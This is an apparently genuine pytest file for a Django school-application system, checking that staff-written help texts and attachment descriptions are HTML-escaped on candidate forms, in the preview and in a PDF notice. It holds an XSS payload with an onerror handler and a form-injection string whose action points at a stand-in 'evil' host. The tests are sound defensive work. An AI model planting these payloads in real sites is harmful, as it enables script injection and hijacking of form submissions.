"""Issue #15 (Sicurezza): the help texts staff write in the form of a procedure (a field's
`aiuto`, an attachment's `descrizione`) are plain text on the candidate's form and in
«Simula»: crispy-bootstrap5 prints help_text with |safe, so they are escaped at the source
(procedure.modulo.testo_di_aiuto)."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from procedure import services as procedure_services
from procedure.models import FormatoAllegato

IMMAGINE = "<img src=x onerror=alert(1)>"
MODULO_FALSO = '</form><form action="https://evil">'


class _Moduli(HTMLParser):
    def __init__(self):
        super().__init__()
        self.azioni, self.immagini, self.pulsanti = [], [], {}

    def handle_starttag(self, tag, attrs):
        attributi = dict(attrs)
        if tag == "form":
            self.azioni.append(attributi.get("action"))
        if tag == "img" and attributi.get("onerror"):
            self.immagini.append(attrs)
        if tag == "button" and attributi.get("name"):
            # the form a submit button belongs to: the last one opened before it
            self.pulsanti[attributi["name"]] = self.azioni[-1] if self.azioni else "nessuno"


def _leggi(testo):
    lettore = _Moduli()
    lettore.feed(testo)
    return lettore


@pytest.fixture
def procedura_con_aiuto(crea_procedura_completa, porta_a, ds):
    procedura = crea_procedura_completa()
    kw = {"autore": ds, "membership": ds.memberships.get(), "procedura": procedura}
    procedure_services.aggiungi_campo(**kw, etichetta="Disponibilità il sabato", tipo="si_no",
                                      aiuto=f"Rispondi sì {IMMAGINE} {MODULO_FALSO} grazie")
    procedure_services.aggiungi_allegato(**kw, nome="Progetto didattico",
                                         formati=[FormatoAllegato.PDF], obbligatorio=False,
                                         descrizione=f"Max 3 pagine {IMMAGINE}{MODULO_FALSO}")
    return procedura


def test_modulo_del_candidato_mostra_l_aiuto_come_testo(procedura_con_aiuto, porta_a, client,
                                                       candidato):
    procedura = porta_a(procedura_con_aiuto, "aperta")
    client.force_login(candidato)
    # the form in steps (issue 17): the question in «Categoria e requisiti», the attachment
    # in «Allegati»
    testo = ""
    for passo in ("categoria", "allegati"):
        risposta = client.get(reverse("candidature:passo", args=[procedura.pk, passo]))
        assert risposta.status_code == 200
        testo += risposta.content.decode()
    assert IMMAGINE not in testo and MODULO_FALSO not in testo
    # the question's help and the attachment's description (what the school asks of it)
    assert testo.count("&lt;img src=x onerror=alert(1)&gt;") == 2
    assert "&lt;/form&gt;&lt;form action=&quot;https://evil&quot;&gt;" in testo
    lettore = _leggi(testo)
    assert "https://evil" not in lettore.azioni and not lettore.immagini
    # «Salva bozza» and «Riepilogo» still submit the application form, not a second one
    assert lettore.pulsanti["salva"] is None and lettore.pulsanti["riepilogo"] is None


def test_simula_mostra_aiuto_e_descrizione_come_testo(procedura_con_aiuto, client, ds):
    client.force_login(ds)
    testo = ""  # the candidates' steps: the question, then the attachment
    for passo in ("categoria", "allegati"):
        risposta = client.get(reverse("candidature:simula_passo",
                                      args=[procedura_con_aiuto.pk, passo]))
        assert risposta.status_code == 200
        testo += risposta.content.decode()
    assert IMMAGINE not in testo and MODULO_FALSO not in testo
    assert testo.count("&lt;img src=x onerror=alert(1)&gt;") == 2  # aiuto and descrizione
    lettore = _leggi(testo)
    assert "https://evil" not in lettore.azioni and not lettore.immagini


def test_pdf_dell_avviso_escapa_aiuto_e_descrizione(procedura_con_aiuto):
    from django.template.loader import render_to_string

    from procedure.avviso import contesto_avviso

    html = render_to_string("pdf/avviso.html", contesto_avviso(procedura_con_aiuto))
    assert IMMAGINE not in html and MODULO_FALSO not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
